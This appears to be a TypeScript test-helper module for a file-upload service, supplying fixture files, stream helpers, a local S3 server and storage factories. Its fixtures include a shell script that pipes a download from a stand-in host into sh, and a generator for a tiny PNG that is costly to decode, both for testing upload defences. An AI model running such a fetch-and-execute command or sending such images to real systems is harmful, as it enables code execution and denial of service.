import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';
import { CreateBucketCommand } from '@aws-sdk/client-s3';
import type { Kysely } from 'kysely';
import S3rver from 's3rver';
import sharp from 'sharp';
import type { Database } from '../db/types.ts';
import { createDatabaseStorage } from '../features/files/storage/database.ts';
import { createDiskStorage } from '../features/files/storage/disk.ts';
import { createS3Client, createS3Storage, type S3StorageOptions } from '../features/files/storage/s3.ts';
import type { FileStorage } from '../features/files/storage/types.ts';

export const DRIVERS = ['disk', 'database', 's3'] as const;
export type Driver = (typeof DRIVERS)[number];

export function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

export async function readAll(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** A stream of `bytes`, in 64 KiB pieces as a network would deliver them. */
export function streamOf(bytes: Uint8Array): Readable {
  const pieces: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += 65536) pieces.push(Buffer.from(bytes.subarray(i, i + 65536)));
  return Readable.from(pieces, { objectMode: false });
}

/** A stream that never ends on its own; `read()` tells how many bytes it gave out. */
export function endlessStream(): { stream: Readable; read: () => number } {
  let given = 0;
  const stream = new Readable({
    read() {
      given += 65536;
      this.push(randomBytes(65536));
    },
  });
  return { stream, read: () => given };
}

/** A stream that sends `before` bytes and then dies, like a client whose connection drops. */
export function interruptedStream(before: number, error = true): Readable {
  let sent = 0;
  const stream = new Readable({
    read() {
      if (sent >= before) {
        setImmediate(() => stream.destroy(error ? new Error('client went away') : undefined));
        return;
      }
      const size = Math.min(65536, before - sent);
      sent += size;
      this.push(randomBytes(size));
    },
  });
  return stream;
}

/** A zip of stored (uncompressed) entries: enough for an Office or OpenDocument container. */
export function zip(entries: [name: string, content: string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(content);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const OOXML_TYPES = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${main}"/></Types>`;

/**
 * A valid 1-bit greyscale PNG of `width` × `height` black pixels: tiny to send (16000 × 16000 is about
 * 31 KB), costly to decode.
 */
export function pixelBombPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const FIXTURES = {
  pdf: () =>
    Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        'trailer << /Root 1 0 R >>\n%%EOF\n',
    ),
  docx: () =>
    zip([
      [
        '[Content_Types].xml',
        OOXML_TYPES('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
      ],
      ['word/document.xml', '<w:document/>'],
    ]),
  xlsx: () =>
    zip([
      [
        '[Content_Types].xml',
        OOXML_TYPES('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      ],
      ['xl/workbook.xml', '<workbook/>'],
    ]),
  odt: () =>
    zip([
      ['mimetype', 'application/vnd.oasis.opendocument.text'],
      ['content.xml', '<office:document-content/>'],
    ]),
  txt: () => Buffer.from('Grüezi mitenand.\nZweite Zeile — mit Umlauten: äöü.\n'),
  csv: () => Buffer.from('name;ort\nAnna;Bern\n'),
  md: () => Buffer.from('# Titel\n\nText mit **Fett**.\n'),
  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]),
  exe: () =>
    Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58, 0),
      Buffer.from([0x80, 0, 0, 0]),
      Buffer.alloc(200, 0),
    ]),
  machO: () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(120, 0)]),
  script: () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
  textWithNul: () => Buffer.from('harmless start\u0000then binary'),
};

/** A picture of two halves, left red and right blue, in any format sharp writes. */
export async function twoHalves(
  format: 'png' | 'jpeg' | 'gif' | 'webp' | 'tiff',
  width = 64,
  height = 32,
): Promise<Buffer> {
  const half = Math.floor(width / 2);
  return sharp({ create: { width, height, channels: 3, background: { r: 255, g: 0, b: 0 } } })
    .composite([
      {
        input: {
          create: { width: width - half, height, channels: 3, background: { r: 0, g: 0, b: 255 } },
        },
        left: half,
        top: 0,
      },
    ])
    .toFormat(format)
    .toBuffer();
}

/**
 * A JPEG as a phone writes it: stored 64 × 32 (left red, right blue), EXIF orientation 6 (shown
 * turned a quarter clockwise), a camera make and a GPS position.
 */
export async function phoneJpeg(): Promise<Buffer> {
  return sharp(await twoHalves('png'))
    .jpeg()
    .withExif({
      IFD0: { Make: 'Einwurf Test Camera', Model: 'Secret Phone' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '46/1 57/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '7/1 26/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** A minimal BMP (24 bits, 2 × 2): sharp cannot read BMP, so the test writes one by hand. */
export function bmp(): Buffer {
  const header = Buffer.alloc(54);
  const rowBytes = 8; // 2 pixels × 3 bytes, padded to 4
  const pixels = Buffer.alloc(rowBytes * 2, 0x80);
  header.write('BM', 0);
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** A local S3-compatible server (s3rver) on 127.0.0.1 with its objects in a temp folder. */
export async function startS3Server(): Promise<{ endpoint: string; close(): Promise<void> }> {
  const directory = await mkdtemp(path.join(os.tmpdir(), 'einwurf-s3-'));
  const server = new S3rver({ address: '127.0.0.1', port: 0, silent: true, directory });
  const { port } = await server.run();
  return {
    endpoint: `http://127.0.0.1:${port}`,
    async close() {
      await server.close();
      await rm(directory, { recursive: true, force: true });
    },
  };
}

/** s3rver accepts any key pair; these only have to be consistent. */
export function s3Options(endpoint: string, bucket: string): S3StorageOptions {
  return {
    bucket,
    region: 'us-east-1',
    endpoint,
    accessKeyId: 'S3RVER',
    secretAccessKey: 'S3RVER',
    forcePathStyle: true,
  };
}

/** A fresh, empty storage of one driver; `destroy` removes what it made on disk. */
export async function createTestStorage(
  driver: Driver,
  context: { db: Kysely<Database>; s3Endpoint: string },
): Promise<{ storage: FileStorage; dir?: string; destroy(): Promise<void> }> {
  if (driver === 'disk') {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'einwurf-files-'));
    return {
      storage: createDiskStorage({ dir: path.join(dir, 'files') }),
      dir: path.join(dir, 'files'),
      destroy: () => rm(dir, { recursive: true, force: true }),
    };
  }
  if (driver === 'database') {
    return { storage: createDatabaseStorage(context.db), destroy: async () => {} };
  }
  const options = s3Options(context.s3Endpoint, `einwurf-${randomBytes(6).toString('hex')}`);
  const client = createS3Client(options);
  await client.send(new CreateBucketCommand({ Bucket: options.bucket }));
  return {
    storage: createS3Storage(options, client),
    destroy: async () => client.destroy(),
  };
}
